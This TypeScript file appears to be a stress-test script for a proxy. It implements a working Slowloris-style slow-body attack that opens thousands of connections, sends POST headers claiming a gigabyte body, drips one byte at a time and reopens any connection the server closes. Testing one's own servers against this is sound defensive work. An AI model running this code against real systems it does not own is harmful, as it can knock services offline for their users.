/**
 * Slowloris with bodies: `--connections` uploads at once of which each gets an octet now and then, `--rate` octets per second in
 * all, for `--seconds`; prints how many were open and how many octets were sent.
 */
import { READABLE, Reactor, type ReadyHandler } from '../../../agent/engine/reactor.ts';
import { allocatePinned } from '../../../agent/engine/memory.ts';
import { receive, sendBuffer } from '../../../agent/engine/socket.ts';
import { EAGAIN } from '../../../agent/engine/errno.ts';
import { raiseNoFileLimit } from '../../../agent/engine/resource-limit.ts';
import { dial, readTarget, watch } from './target.ts';

raiseNoFileLimit();
const target = readTarget({ seconds: 4, connections: 2_000, rate: 20_000 });
const { seconds, connections, rate } = target.numbers;
const reactor = new Reactor(() => performance.now(), 1_000_000);
const buffer = allocatePinned(65_536);
const head = Buffer.from(
  `POST ${target.path} HTTP/1.1\r\nHost: ${target.host}\r\nContent-Length: 1000000000\r\n\r\n`,
  'latin1',
);
const octet = Buffer.from('x');
let answered = 0;
let reopened = 0;

class Upload implements ReadyHandler {
  readonly tenant = 0;
  #fd: number;

  constructor() {
    this.#fd = this.#begin();
  }

  drip(): number {
    return sendBuffer(this.#fd, octet, 0, 1);
  }

  /** An answer, or the end: the proxy had enough of this upload. The next one follows. */
  onReady(): number {
    const got = receive(this.#fd, buffer, 0, buffer.length);
    if (got === -EAGAIN) return 1;
    if (got > 0) answered++;
    reactor.removeAndClose(this.#fd);
    reopened++;
    this.#fd = this.#begin();
    return 1;
  }

  #begin(): number {
    const fd = dial(target.address);
    watch(reactor, fd, READABLE, this);
    sendBuffer(fd, head, 0, head.length);
    return fd;
  }
}

const startedMs = performance.now();
const uploads: Upload[] = [];
let dripped = 0;
for (;;) {
  const now = performance.now();
  if (now - startedMs >= seconds * 1_000) break;
  // In batches: thousands of SYNs at once would meet the bound of the accept queue instead of the proxy.
  for (let i = 0; i < 64 && uploads.length < connections; i++) uploads.push(new Upload());
  const due = Math.floor(((now - startedMs) * rate) / 1_000);
  for (let i = 0; dripped < due && i < 256; i++, dripped++) uploads[dripped % uploads.length]?.drip();
  reactor.turn(1);
}
const figures = { open: uploads.length, dripped, perSecond: dripped / seconds, answered, reopened };
process.stdout.write(`${JSON.stringify(figures)}\n`, () => process.exit(0));
